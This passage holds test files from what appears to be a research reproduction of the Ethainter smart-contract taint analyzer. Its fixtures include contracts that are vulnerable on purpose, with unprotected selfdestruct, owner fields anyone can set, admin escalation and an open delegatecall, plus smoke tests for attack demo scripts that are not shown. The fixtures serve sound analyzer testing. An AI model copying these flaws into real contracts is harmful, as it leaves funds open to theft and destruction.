        chain = Blockchain()
        chain.fund(0xD, 10**18)
        address = chain.deploy(
            0xD, tainted_sd_storage_contract.init_with_args()
        ).contract_address
        storage = dict(chain.state.account(address).storage)
        result = TeEtherAnalysis().analyze(
            tainted_sd_storage_contract.runtime, storage
        )
        assert not result.flagged

    def test_budget_exhaustion_reports_timeout(self, victim_contract):
        result = TeEtherAnalysis(max_total_steps=50, max_paths=2).analyze(
            victim_contract.runtime
        )
        assert result.timed_out

    def test_paths_explored_counted(self, open_kill_contract):
        result = TeEtherAnalysis().analyze(open_kill_contract.runtime)
        assert result.paths_explored >= 1
