"""Derivation provenance in the Datalog engine."""

import pytest

from repro.datalog import Database, Engine, parse_program

PATH_RULES = """
Path(x, y) :- Edge(x, y).
Path(x, z) :- Path(x, y), Edge(y, z).
"""


def path_engine(track=True):
    database = Database()
    database.add_all("Edge", [("a", "b"), ("b", "c"), ("c", "d")])
    engine = Engine(parse_program(PATH_RULES).rules, track_provenance=track)
    engine.evaluate(database)
    return engine, database


class TestProvenance:
    def test_derivation_recorded(self):
        engine, _ = path_engine()
        tree = engine.explain("Path", ("a", "d"))
        assert tree["rule"] is not None
        assert len(tree["premises"]) == 2

    def test_tree_bottoms_out_at_edb(self):
        engine, _ = path_engine()

        def leaves(node):
            if not node["premises"]:
                yield node
            for premise in node["premises"]:
                yield from leaves(premise)

        tree = engine.explain("Path", ("a", "d"))
        leaf_facts = {leaf["fact"] for leaf in leaves(tree)}
        assert leaf_facts == {"Edge('a', 'b')", "Edge('b', 'c')", "Edge('c', 'd')"}
        assert all(leaf["rule"] is None for leaf in leaves(tree))

    def test_edb_fact_has_no_rule(self):
        engine, _ = path_engine()
        tree = engine.explain("Edge", ("a", "b"))
        assert tree["rule"] is None

    def test_format_explanation(self):
        engine, _ = path_engine()
        text = engine.format_explanation("Path", ("a", "c"))
        assert "Path('a', 'c')" in text
        assert "via" in text
        assert "Edge('a', 'b')" in text

    def test_disabled_by_default(self):
        engine, _ = path_engine(track=False)
        assert engine.provenance == {}

    def test_first_derivation_kept(self):
        # Two rules can derive the same fact; provenance keeps the first.
        rules = parse_program(
            """
Out(x) :- A(x).
Out(x) :- B(x).
"""
        ).rules
        database = Database()
        database.add("A", (1,))
        database.add("B", (1,))
        engine = Engine(rules, track_provenance=True)
        engine.evaluate(database)
        rule, support = engine.provenance[("Out", (1,))]
        assert len(support) == 1

    def test_depth_bounded(self):
        engine, _ = path_engine()
        shallow = engine.explain("Path", ("a", "d"), max_depth=1)
        assert shallow["premises"]
        for premise in shallow["premises"]:
            assert premise["premises"] == []


class TestEthainterExplanation:
    def test_violation_explained_to_sources(self):
        """The §3.1 scenario: explaining the violation reaches INPUT and the
        storage write that poisoned the owner slot."""
        from repro.core.datalog_rules import ETHAINTER_RULES, facts_from_program
        from repro.core.lang import parse_abstract

        program = parse_abstract(
            """
o = INPUT
t0 = CONST 0
SSTORE o t0
f0 = CONST 0
SLOAD f0 z
p = EQ sender z
x = INPUT
g = GUARD p x
SINK g
"""
        )
        database = facts_from_program(program)
        engine = Engine(parse_program(ETHAINTER_RULES).rules, track_provenance=True)
        engine.evaluate(database)
        text = engine.format_explanation("Violation", ("g",))
        assert "Violation('g',)" in text
        assert "InputStmt" in text  # bottoms out at the taint source
        # The composite chain shows the guard was non-sanitizing.
        assert "NonSanitizingGuard" in text
