"""Analysis orchestration: results, errors, timeouts, configuration."""

import pytest

from repro.core import AnalysisConfig, EthainterAnalysis, analyze_bytecode


class TestResultShape:
    def test_counts_populated(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        assert result.block_count > 0
        assert result.statement_count > result.block_count
        assert result.elapsed_seconds >= 0

    def test_artifacts_exposed(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        assert result.program is not None
        assert result.facts is not None
        assert result.guards is not None
        assert result.storage is not None
        assert result.taint is not None

    def test_flagged_property(self, victim_contract, safe_contract):
        assert analyze_bytecode(victim_contract.runtime).flagged
        assert not analyze_bytecode(safe_contract.runtime).flagged

    def test_kinds_histogram_keys(self, safe_contract):
        counts = analyze_bytecode(safe_contract.runtime).kinds()
        assert all(count == 0 for count in counts.values())


class TestErrorHandling:
    def test_empty_bytecode(self):
        result = analyze_bytecode(b"")
        assert result.error is None
        assert result.warnings == []

    def test_junk_bytecode_does_not_crash(self):
        result = analyze_bytecode(bytes(range(256)) * 4)
        assert result.error is None or result.error.startswith("lift-error")

    def test_timeout_reported(self, victim_contract):
        config = AnalysisConfig(timeout_seconds=0.0)
        result = analyze_bytecode(victim_contract.runtime, config)
        assert result.timed_out

    def test_lift_cap_becomes_lift_error(self, victim_contract):
        config = AnalysisConfig(max_lift_states=2)
        result = analyze_bytecode(victim_contract.runtime, config)
        assert result.error is not None and result.error.startswith("lift-error")


class TestConfig:
    def test_default_config_values(self):
        config = AnalysisConfig()
        assert config.model_guards and config.model_storage_taint
        assert not config.conservative_storage

    def test_taint_options_mirror_config(self):
        config = AnalysisConfig(
            model_guards=False, model_storage_taint=False, conservative_storage=True
        )
        options = config.taint_options()
        assert not options.model_guards
        assert not options.model_storage_taint
        assert options.conservative_storage

    def test_analyzer_reusable_across_contracts(self, victim_contract, safe_contract):
        analyzer = EthainterAnalysis()
        first = analyzer.analyze(victim_contract.runtime)
        second = analyzer.analyze(safe_contract.runtime)
        assert first.flagged and not second.flagged

    def test_deterministic(self, victim_contract):
        first = analyze_bytecode(victim_contract.runtime)
        second = analyze_bytecode(victim_contract.runtime)
        assert {(w.kind, w.pc) for w in first.warnings} == {
            (w.kind, w.pc) for w in second.warnings
        }


class TestEngineSelection:
    def test_datalog_engine_same_warnings(self, victim_contract, safe_contract):
        for contract in (victim_contract, safe_contract):
            python_result = analyze_bytecode(contract.runtime)
            datalog_result = analyze_bytecode(
                contract.runtime, AnalysisConfig(engine="datalog")
            )
            assert {(w.kind, w.pc) for w in python_result.warnings} == {
                (w.kind, w.pc) for w in datalog_result.warnings
            }

    def test_datalog_engine_with_ablation(self, token_contract):
        result = analyze_bytecode(
            token_contract.runtime,
            AnalysisConfig(engine="datalog", conservative_storage=True),
        )
        assert result.has("tainted-owner-variable")

    def test_datalog_engine_slower_but_same_counts(self, victim_contract):
        python_result = analyze_bytecode(victim_contract.runtime)
        datalog_result = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(engine="datalog")
        )
        assert python_result.taint.tainted_slots == datalog_result.taint.tainted_slots
