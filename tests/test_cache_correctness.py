"""Cache correctness: cached and cold runs must be indistinguishable.

Property tests over randomly generated corpora: for every Fig. 8
configuration and both fixpoint engines, an analysis served (partially or
fully) from a shared :class:`ArtifactCache` produces warning sets identical
to a cold run — including when the cache is small enough to evict.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core import AnalysisConfig, ArtifactCache, analyze_bytecode
from repro.corpus import generate_corpus

FIG8_CONFIGS = (
    {},
    {"model_storage_taint": False},
    {"model_guards": False},
    {"conservative_storage": True},
)


def _signature(result):
    return [
        (w.kind, w.pc, w.statement, w.slot, w.detail) for w in result.warnings
    ]


@pytest.mark.parametrize("engine", ["python", "datalog"])
@given(seed=st.integers(min_value=0, max_value=10_000))
@settings(max_examples=6, deadline=None)
def test_cached_equals_cold_all_configs(engine, seed):
    """Prefix-shared and fully-cached runs match cold runs byte for byte,
    across all four Fig. 8 configs, on arbitrary corpus seeds."""
    contracts = generate_corpus(4, seed=seed)
    cache = ArtifactCache()
    for overrides in FIG8_CONFIGS:
        config = AnalysisConfig(engine=engine, **overrides)
        for contract in contracts:
            cold = analyze_bytecode(contract.runtime, config)
            shared = analyze_bytecode(contract.runtime, config, cache=cache)
            fully_cached = analyze_bytecode(contract.runtime, config, cache=cache)
            assert _signature(shared) == _signature(cold)
            assert _signature(fully_cached) == _signature(cold)
            assert fully_cached.cache_misses == 0


@given(seed=st.integers(min_value=0, max_value=10_000))
@settings(max_examples=6, deadline=None)
def test_tiny_cache_evicts_but_stays_correct(seed):
    """A cache bound far below the working set evicts aggressively yet
    never changes any verdict."""
    contracts = generate_corpus(6, seed=seed)
    cache = ArtifactCache(max_entries=4)
    for _ in range(2):  # second sweep exercises the eviction/refill churn
        for contract in contracts:
            cold = analyze_bytecode(contract.runtime)
            cached = analyze_bytecode(contract.runtime, cache=cache)
            assert _signature(cached) == _signature(cold)
    assert len(cache) <= 4
    assert cache.evictions > 0


def test_battery_shares_prefix_across_configs():
    """Running the four-config battery against one cache recomputes only
    taint+detect per ablation; warnings match per-config cold runs."""
    from repro.core.batch import analyze_battery

    contracts = generate_corpus(10, seed=99)
    bytecodes = [contract.runtime for contract in contracts]
    configs = [AnalysisConfig(**overrides) for overrides in FIG8_CONFIGS]
    summaries = analyze_battery(bytecodes, configs, jobs=1)
    assert len(summaries) == len(configs)
    for config, summary in zip(configs, summaries):
        assert summary.total == len(bytecodes)
        for contract, entry in zip(contracts, summary.entries):
            cold = analyze_bytecode(contract.runtime, config)
            assert entry.kinds == tuple(sorted({w.kind for w in cold.warnings}))
    # Configs beyond the first re-use the 4-stage prefix per contract.
    total_hits = sum(summary.cache_hits for summary in summaries)
    assert total_hits >= 3 * len(bytecodes) * 4
