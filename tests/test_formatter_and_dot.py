"""Source formatter round-trips and dot export."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.core import analyze_bytecode
from repro.decompiler import lift
from repro.ir.dot import to_dot
from repro.minisol import ast_nodes as ast
from repro.minisol import compile_source
from repro.minisol.formatter import format_expr, format_program, format_stmt
from repro.minisol.parser import parse
from tests.conftest import (
    SAFE_OWNED_SOURCE,
    TAINTED_OWNER_SOURCE,
    TOKEN_SOURCE,
    VICTIM_SOURCE,
)


def ast_equal(left, right) -> bool:
    """Structural equality ignoring line numbers and slot assignments."""
    if type(left) is not type(right):
        return False
    if isinstance(left, (int, str, bool, type(None))):
        return left == right
    if isinstance(left, (list, tuple)):
        return len(left) == len(right) and all(
            ast_equal(a, b) for a, b in zip(left, right)
        )
    if hasattr(left, "__dataclass_fields__"):
        for field_name in left.__dataclass_fields__:
            if field_name in ("line", "slot"):
                continue
            if not ast_equal(getattr(left, field_name), getattr(right, field_name)):
                return False
        return True
    return left == right


CANONICAL_SOURCES = [VICTIM_SOURCE, SAFE_OWNED_SOURCE, TAINTED_OWNER_SOURCE, TOKEN_SOURCE]


class TestFormatterRoundTrip:
    @pytest.mark.parametrize("source", CANONICAL_SOURCES)
    def test_parse_format_parse_fixpoint(self, source):
        first = parse(source)
        formatted = format_program(first)
        second = parse(formatted)
        assert ast_equal(first, second)

    def test_formatted_source_compiles_and_analyzes_identically(self):
        original = compile_source(VICTIM_SOURCE)
        formatted_source = format_program(parse(VICTIM_SOURCE))
        reformatted = compile_source(formatted_source)
        original_kinds = {w.kind for w in analyze_bytecode(original.runtime).warnings}
        reformatted_kinds = {
            w.kind for w in analyze_bytecode(reformatted.runtime).warnings
        }
        assert original_kinds == reformatted_kinds

    def test_corpus_templates_round_trip(self):
        import random

        from repro.corpus import TEMPLATES

        for name, template in sorted(TEMPLATES.items()):
            output = template(random.Random(5))
            first = parse(output.source)
            second = parse(format_program(first))
            assert ast_equal(first, second), name

    def test_external_call_forms(self):
        source = (
            'contract C { function f(address t, uint256 v) public {'
            ' call(t, "a(uint256)", v);'
            ' delegatecall(t, "b()");'
            ' callvalue_to(t, v, "c()"); } }'
        )
        first = parse(source)
        second = parse(format_program(first))
        assert ast_equal(first, second)

    def test_expression_parenthesization_preserves_shape(self):
        source = (
            "contract C { function f(uint256 a, uint256 b) public returns (uint256)"
            " { return a + b * 2 - (a / 3); } }"
        )
        first = parse(source)
        second = parse(format_program(first))
        assert ast_equal(first, second)


class TestDotExport:
    def test_dot_contains_blocks_and_edges(self, victim_contract):
        program = lift(victim_contract.runtime)
        dot = to_dot(program)
        assert dot.startswith("digraph")
        assert dot.rstrip().endswith("}")
        for block_id in program.blocks:
            assert '"%s"' % block_id in dot
        assert "->" in dot

    def test_highlighting_marks_flagged_statement(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        flagged = {w.statement for w in result.warnings if w.statement}
        dot = to_dot(result.program, highlight_statements=flagged)
        assert "color=red" in dot

    def test_branch_edges_labeled(self, safe_contract):
        dot = to_dot(lift(safe_contract.runtime))
        assert '[label="T"]' in dot
        assert '[label="F"]' in dot

    def test_entry_block_bold(self, safe_contract):
        program = lift(safe_contract.runtime)
        dot = to_dot(program)
        assert "style=bold" in dot
