"""Shared fixtures: canonical contracts compiled once per session."""

from __future__ import annotations

import pytest

from repro.minisol import compile_source

VICTIM_SOURCE = """
contract Victim {
    mapping(address => bool) admins;
    mapping(address => bool) users;
    address owner;

    modifier onlyAdmins() { require(admins[msg.sender]); _; }
    modifier onlyUsers() { require(users[msg.sender]); _; }

    function registerSelf() public { users[msg.sender] = true; }
    function referUser(address user) public onlyUsers { users[user] = true; }
    function referAdmin(address adm) public onlyUsers { admins[adm] = true; }
    function changeOwner(address o) public onlyAdmins { owner = o; }
    function kill() public onlyAdmins { selfdestruct(owner); }
}
"""

SAFE_OWNED_SOURCE = """
contract Safe {
    address owner;
    constructor() { owner = msg.sender; }
    function setOwner(address o) public { require(msg.sender == owner); owner = o; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""

TAINTED_OWNER_SOURCE = """
contract TaintedOwner {
    address owner;
    function initOwner(address o) public { owner = o; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""

OPEN_KILL_SOURCE = """
contract OpenKill {
    address beneficiary;
    constructor() { beneficiary = msg.sender; }
    function kill() public { selfdestruct(beneficiary); }
}
"""

TOKEN_SOURCE = """
contract Token {
    mapping(address => uint256) balances;
    address owner;
    constructor() { owner = msg.sender; balances[msg.sender] = 1000000; }
    function transfer(address to, uint256 value) public {
        require(balances[msg.sender] >= value);
        balances[to] += value;
        balances[msg.sender] -= value;
    }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""

DELEGATE_SOURCE = """
contract Migrator {
    function migrate(address target) public { delegatecall(target); }
}
"""

TAINTED_SD_STORAGE_SOURCE = """
contract AdminPayout {
    address owner;
    address administrator;
    constructor() { owner = msg.sender; }
    function initAdmin(address admin) public { administrator = admin; }
    function close() public {
        require(msg.sender == owner);
        selfdestruct(administrator);
    }
}
"""


@pytest.fixture(scope="session")
def victim_contract():
    return compile_source(VICTIM_SOURCE)


@pytest.fixture(scope="session")
def safe_contract():
    return compile_source(SAFE_OWNED_SOURCE)


@pytest.fixture(scope="session")
def tainted_owner_contract():
    return compile_source(TAINTED_OWNER_SOURCE)


@pytest.fixture(scope="session")
def open_kill_contract():
    return compile_source(OPEN_KILL_SOURCE)


@pytest.fixture(scope="session")
def token_contract():
    return compile_source(TOKEN_SOURCE)


@pytest.fixture(scope="session")
def delegate_contract():
    return compile_source(DELEGATE_SOURCE)


@pytest.fixture(scope="session")
def tainted_sd_storage_contract():
    return compile_source(TAINTED_SD_STORAGE_SOURCE)
