"""Smoke-run every example script (deliverable sanity).

Examples are user-facing documentation; they must keep running as the
library evolves.  Each is executed in-process with a tiny workload.
"""

import runpy
import sys
from pathlib import Path

import pytest

EXAMPLES_DIR = Path(__file__).resolve().parent.parent / "examples"


def run_example(name, argv=()):
    saved_argv = sys.argv
    sys.argv = [name] + list(argv)
    try:
        runpy.run_path(str(EXAMPLES_DIR / name), run_name="__main__")
    finally:
        sys.argv = saved_argv


class TestExamplesRun:
    def test_quickstart(self, capsys):
        run_example("quickstart.py")
        output = capsys.readouterr().out
        assert "tainted-owner-variable" in output
        assert "0 warning(s)" in output

    def test_composite_attack(self, capsys):
        run_example("composite_attack.py")
        output = capsys.readouterr().out
        assert "destroyed=True" in output
        assert "reverted" in output  # the naive attack failed first

    def test_staticcall_bug(self, capsys):
        run_example("staticcall_bug.py")
        output = capsys.readouterr().out
        assert "stale input" in output
        assert "unchecked-tainted-staticcall" in output

    def test_parity_hack(self, capsys):
        run_example("parity_hack.py")
        output = capsys.readouterr().out
        assert "wallet destroyed=True" in output
        assert "tainted-owner-variable" in output

    def test_reentrancy_attack(self, capsys):
        run_example("reentrancy_attack.py")
        output = capsys.readouterr().out
        assert "reentrant-call" in output
        assert "drained=True" in output
        assert "0 reentrancy warning(s)" in output  # the CEI fix stays clean
        assert "drained=False" in output  # forced replay against the fix

    def test_formal_model(self, capsys):
        run_example("formal_model.py")
        output = capsys.readouterr().out
        assert output.count("datalog engine agrees: True") == 2

    def test_blockchain_sweep_small(self, capsys):
        run_example("blockchain_sweep.py", ["60"])
        output = capsys.readouterr().out
        assert "Ethainter-Kill" in output
        assert "precision" in output

    def test_tool_comparison_small(self, capsys):
        run_example("tool_comparison.py", ["40"])
        output = capsys.readouterr().out
        assert "ethainter" in output
        assert "securify2" in output

    def test_every_example_file_is_covered(self):
        covered = {
            "quickstart.py",
            "composite_attack.py",
            "staticcall_bug.py",
            "parity_hack.py",
            "reentrancy_attack.py",
            "formal_model.py",
            "blockchain_sweep.py",
            "tool_comparison.py",
        }
        on_disk = {path.name for path in EXAMPLES_DIR.glob("*.py")}
        assert on_disk == covered
