"""Documentation completeness: every public item carries a docstring."""

import importlib
import inspect
import pkgutil

import repro


def _public_items():
    for module_info in pkgutil.walk_packages(repro.__path__, "repro."):
        module = importlib.import_module(module_info.name)
        yield ("module", module_info.name, module)
        for name, obj in vars(module).items():
            if name.startswith("_"):
                continue
            if getattr(obj, "__module__", None) != module_info.name:
                continue  # re-export; documented at its home
            if inspect.isclass(obj) or inspect.isfunction(obj):
                yield (module_info.name, name, obj)


class TestDocstrings:
    def test_every_public_item_documented(self):
        missing = [
            (where, name)
            for where, name, obj in _public_items()
            if not inspect.getdoc(obj)
        ]
        assert missing == [], "undocumented public items: %r" % missing

    def test_public_classes_document_public_methods(self):
        """Public methods on the main API classes must be documented."""
        from repro.chain import Blockchain, WorldState
        from repro.core import EthainterAnalysis
        from repro.datalog import Database, Engine
        from repro.kill import EthainterKill

        missing = []
        for cls in (Blockchain, WorldState, EthainterAnalysis, Database, Engine, EthainterKill):
            for name, member in inspect.getmembers(cls, inspect.isfunction):
                if name.startswith("_"):
                    continue
                if not inspect.getdoc(member):
                    missing.append((cls.__name__, name))
        assert missing == [], missing
