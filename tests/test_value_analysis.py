"""Value-set analysis: transfer functions, widening, memory model, and the
end-to-end precision effect on computed storage indices."""

import pytest

from repro.core import AnalysisConfig, analyze_bytecode
from repro.ir.tac import TACBlock, TACProgram, TACStatement
from repro.ir.value_analysis import BOOL_SET, analyze_values
from repro.minisol import compile_source


def make_program(statements, const_value=None):
    """Single-block program over the given statements."""
    block = TACBlock(ident="B0", offset=0, statements=list(statements))
    return TACProgram(
        blocks={"B0": block}, entry="B0", const_value=dict(const_value or {})
    )


def stmt(ident, opcode, defs=(), uses=()):
    return TACStatement(
        ident=ident, opcode=opcode, defs=list(defs), uses=list(uses)
    )


class TestTransferFunctions:
    def test_const_singleton(self):
        program = make_program([stmt("s0", "CONST", ["a"])], {"a": 42})
        analysis = analyze_values(program)
        assert analysis.value_set("a") == frozenset((42,))
        assert analysis.singleton("a") == 42

    def test_add_of_constants(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CONST", ["b"]),
                stmt("s2", "ADD", ["c"], ["a", "b"]),
            ],
            {"a": 3, "b": 4},
        )
        assert analyze_values(program).singleton("c") == 7

    def test_add_wraps_mod_2_256(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CONST", ["b"]),
                stmt("s2", "ADD", ["c"], ["a", "b"]),
            ],
            {"a": (1 << 256) - 1, "b": 2},
        )
        assert analyze_values(program).singleton("c") == 1

    def test_shl_takes_shift_amount_first(self):
        # Stack order: SHL(shift, value) — matches the lifter's folding.
        program = make_program(
            [
                stmt("s0", "CONST", ["sh"]),
                stmt("s1", "CONST", ["v"]),
                stmt("s2", "SHL", ["r"], ["sh", "v"]),
            ],
            {"sh": 4, "v": 3},
        )
        assert analyze_values(program).singleton("r") == 48

    def test_environment_value_is_top(self):
        program = make_program([stmt("s0", "CALLDATALOAD", ["x"], ["off"])])
        analysis = analyze_values(program)
        assert analysis.value_set("x") is None  # TOP

    def test_arith_over_top_is_top(self):
        program = make_program(
            [
                stmt("s0", "CALLDATALOAD", ["x"], ["off"]),
                stmt("s1", "CONST", ["one"]),
                stmt("s2", "ADD", ["y"], ["x", "one"]),
            ],
            {"one": 1},
        )
        assert analyze_values(program).value_set("y") is None


class TestComparisons:
    def test_eq_over_top_is_bool_set(self):
        """The key rule: a comparison of attacker data is still {0, 1}."""
        program = make_program(
            [
                stmt("s0", "CALLDATALOAD", ["x"], ["off"]),
                stmt("s1", "CONST", ["m"]),
                stmt("s2", "EQ", ["r"], ["x", "m"]),
            ],
            {"m": 7},
        )
        assert analyze_values(program).value_set("r") == BOOL_SET

    def test_eq_of_constants_is_exact(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CONST", ["b"]),
                stmt("s2", "EQ", ["r"], ["a", "b"]),
            ],
            {"a": 5, "b": 5},
        )
        assert analyze_values(program).value_set("r") == frozenset((1,))

    def test_iszero_over_top_is_bool_set(self):
        program = make_program(
            [
                stmt("s0", "CALLDATALOAD", ["x"], ["off"]),
                stmt("s1", "ISZERO", ["r"], ["x"]),
            ]
        )
        assert analyze_values(program).value_set("r") == BOOL_SET

    def test_iszero_of_nonzero_constant(self):
        program = make_program(
            [stmt("s0", "CONST", ["a"]), stmt("s1", "ISZERO", ["r"], ["a"])],
            {"a": 5},
        )
        assert analyze_values(program).value_set("r") == frozenset((0,))

    def test_double_iszero_normalizes_to_bool(self):
        program = make_program(
            [
                stmt("s0", "CALLDATALOAD", ["x"], ["off"]),
                stmt("s1", "ISZERO", ["a"], ["x"]),
                stmt("s2", "ISZERO", ["b"], ["a"]),
            ]
        )
        assert analyze_values(program).value_set("b") == BOOL_SET


class TestPhi:
    def test_phi_unions_operands(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CONST", ["b"]),
                stmt("s2", "PHI", ["m"], ["a", "b"]),
            ],
            {"a": 1, "b": 2},
        )
        assert analyze_values(program).value_set("m") == frozenset((1, 2))

    def test_phi_with_top_operand_is_top(self):
        """Regression: a TOP operand must widen the PHI, not be skipped."""
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CALLDATALOAD", ["x"], ["off"]),
                stmt("s2", "PHI", ["m"], ["a", "x"]),
            ],
            {"a": 1},
        )
        assert analyze_values(program).value_set("m") is None

    def test_widening_past_cap_is_top(self):
        consts = [stmt("s%d" % i, "CONST", ["c%d" % i]) for i in range(10)]
        phi = stmt("sp", "PHI", ["m"], ["c%d" % i for i in range(10)])
        program = make_program(
            consts + [phi], {"c%d" % i: i for i in range(10)}
        )
        analysis = analyze_values(program, max_set_size=4)
        assert analysis.value_set("m") is None


class TestMemoryModel:
    def test_constant_store_load_chain(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["addr"]),
                stmt("s1", "CONST", ["v"]),
                stmt("s2", "MSTORE", [], ["addr", "v"]),
                stmt("s3", "MLOAD", ["r"], ["addr"]),
            ],
            {"addr": 0x40, "v": 9},
        )
        analysis = analyze_values(program)
        # {0} for the never-written path, plus the stored value.
        assert analysis.value_set("r") == frozenset((0, 9))
        assert analysis.memory_sound

    def test_unknown_address_store_poisons_memory(self):
        program = make_program(
            [
                stmt("s0", "CALLDATALOAD", ["p"], ["off"]),
                stmt("s1", "CONST", ["v"]),
                stmt("s2", "MSTORE", [], ["p", "v"]),
                stmt("s3", "CONST", ["addr"]),
                stmt("s4", "MLOAD", ["r"], ["addr"]),
            ],
            {"v": 9, "addr": 0x40},
        )
        analysis = analyze_values(program)
        assert not analysis.memory_sound
        assert analysis.value_set("r") is None

    def test_calldatacopy_marks_words_unknown(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["dest"]),
                stmt("s1", "CONST", ["src"]),
                stmt("s2", "CONST", ["size"]),
                stmt("s3", "CALLDATACOPY", [], ["dest", "src", "size"]),
                stmt("s4", "MLOAD", ["r"], ["dest"]),
            ],
            {"dest": 0x80, "src": 4, "size": 32},
        )
        analysis = analyze_values(program)
        assert analysis.memory_sound
        assert analysis.value_set("r") is None

    def test_exported_drops_top(self):
        program = make_program(
            [
                stmt("s0", "CONST", ["a"]),
                stmt("s1", "CALLDATALOAD", ["x"], ["off"]),
            ],
            {"a": 1},
        )
        exported = analyze_values(program).exported()
        assert exported == {"a": frozenset((1,))}


PROBE_SOURCE = """
contract Probe {
    uint256[2] flags;
    address owner;

    constructor() { owner = msg.sender; }

    function set(uint256 choice, uint256 value) public {
        flags[choice == 7] = value;
    }

    function kill() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""


@pytest.fixture(scope="module")
def probe_runtime():
    return compile_source(PROBE_SOURCE).runtime


class TestEndToEnd:
    def test_flag_off_smears(self, probe_runtime):
        result = analyze_bytecode(probe_runtime)
        kinds = {w.kind for w in result.warnings}
        assert "tainted-owner-variable" in kinds

    def test_flag_on_resolves_computed_index(self, probe_runtime):
        result = analyze_bytecode(
            probe_runtime, AnalysisConfig(value_analysis=True)
        )
        assert result.warnings == []

    def test_warnings_shrink_only(self, probe_runtime):
        off = analyze_bytecode(probe_runtime)
        on = analyze_bytecode(probe_runtime, AnalysisConfig(value_analysis=True))
        off_kinds = {(w.kind, w.slot) for w in off.warnings}
        on_kinds = {(w.kind, w.slot) for w in on.warnings}
        assert on_kinds <= off_kinds

    def test_datalog_engine_agrees_with_flag_on(self, probe_runtime):
        python = analyze_bytecode(
            probe_runtime, AnalysisConfig(value_analysis=True)
        )
        datalog = analyze_bytecode(
            probe_runtime, AnalysisConfig(value_analysis=True, engine="datalog")
        )
        assert {(w.kind, w.slot) for w in python.warnings} == {
            (w.kind, w.slot) for w in datalog.warnings
        }

    def test_datalog_engine_agrees_with_flag_off(self, probe_runtime):
        python = analyze_bytecode(probe_runtime)
        datalog = analyze_bytecode(probe_runtime, AnalysisConfig(engine="datalog"))
        assert {(w.kind, w.slot) for w in python.warnings} == {
            (w.kind, w.slot) for w in datalog.warnings
        }

    def test_precision_counters_populated(self, probe_runtime):
        off = analyze_bytecode(probe_runtime)
        on = analyze_bytecode(probe_runtime, AnalysisConfig(value_analysis=True))
        assert off.precision.value_tracked_vars == 0
        assert on.precision.value_tracked_vars > 0
        assert on.precision.resolved_store_indices > off.precision.resolved_store_indices

    def test_storage_model_records_resolved_slots(self, probe_runtime):
        result = analyze_bytecode(
            probe_runtime, AnalysisConfig(value_analysis=True)
        )
        resolved = result.storage.resolved_store_slots
        assert any(set(slots) == {0, 1} for slots in resolved.values())
