"""MiniSol code generation: compiled contracts must compute correctly.

These are end-to-end semantic tests: compile, deploy on the simulator,
transact, check results — plus a hypothesis property comparing compiled
arithmetic against a Python reference evaluator.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.chain import Blockchain
from repro.minisol import compile_source
from repro.minisol.abi import decode_word

WORD = (1 << 256) - 1
OWNER, USER, OTHER = 0xAA01, 0xBB02, 0xCC03


def deploy(source, *ctor_args, value=0, name=None):
    contract = compile_source(source, name)
    chain = Blockchain()
    for account in (OWNER, USER, OTHER):
        chain.fund(account, 10**18)
    receipt = chain.deploy(OWNER, contract.init_with_args(*ctor_args), value=value)
    assert receipt.success, receipt.error
    return chain, contract, receipt.contract_address


def call_value(chain, contract, address, fn, *args, sender=USER):
    result = chain.call(sender, address, contract.calldata(fn, *args))
    assert result.success, result.error
    return decode_word(result.return_data)


class TestExpressions:
    def _eval(self, expression, p=0):
        source = (
            "contract E { function f(uint256 p) public returns (uint256) "
            "{ return %s; } }" % expression
        )
        chain, contract, address = deploy(source)
        return call_value(chain, contract, address, "f", p)

    def test_arithmetic(self):
        assert self._eval("2 + 3 * 4") == 14
        assert self._eval("(2 + 3) * 4") == 20
        assert self._eval("10 - 4") == 6
        assert self._eval("7 / 2") == 3
        assert self._eval("7 % 2") == 1

    def test_underflow_wraps(self):
        assert self._eval("0 - 1") == WORD

    def test_comparisons(self):
        assert self._eval("1 < 2") == 1
        assert self._eval("2 <= 2") == 1
        assert self._eval("3 > 4") == 0
        assert self._eval("4 >= 5") == 0
        assert self._eval("5 == 5") == 1
        assert self._eval("5 != 5") == 0

    def test_logic(self):
        assert self._eval("true && false") == 0
        assert self._eval("true || false") == 1
        assert self._eval("!false") == 1

    def test_logic_normalizes_nonbool(self):
        assert self._eval("7 && 9") == 1

    def test_param_passthrough(self):
        assert self._eval("p + 1", p=41) == 42

    def test_unary_minus(self):
        assert self._eval("0 - p", p=1) == WORD

    @given(
        st.integers(0, 10**9),
        st.integers(0, 10**9),
        st.integers(1, 10**9),
        st.sampled_from(["+", "-", "*", "/", "%"]),
    )
    @settings(max_examples=25, deadline=None)
    def test_random_binary_ops_match_python(self, a, b, c, op):
        expression = "(p %s %d) %s %d" % (op, b, "+", c)
        compiled = self._eval(expression, p=a)
        if op == "+":
            intermediate = (a + b) & WORD
        elif op == "-":
            intermediate = (a - b) & WORD
        elif op == "*":
            intermediate = (a * b) & WORD
        elif op == "/":
            intermediate = 0 if b == 0 else a // b
        else:
            intermediate = 0 if b == 0 else a % b
        assert compiled == (intermediate + c) & WORD


class TestStateAndControlFlow:
    def test_state_var_persistence(self):
        source = """
contract S {
    uint256 x;
    function set(uint256 v) public { x = v; }
    function get() public returns (uint256) { return x; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("set", 77))
        assert call_value(chain, contract, address, "get") == 77

    def test_state_var_initializer(self):
        source = "contract S { uint256 x = 9; function get() public returns (uint256) { return x; } }"
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "get") == 9

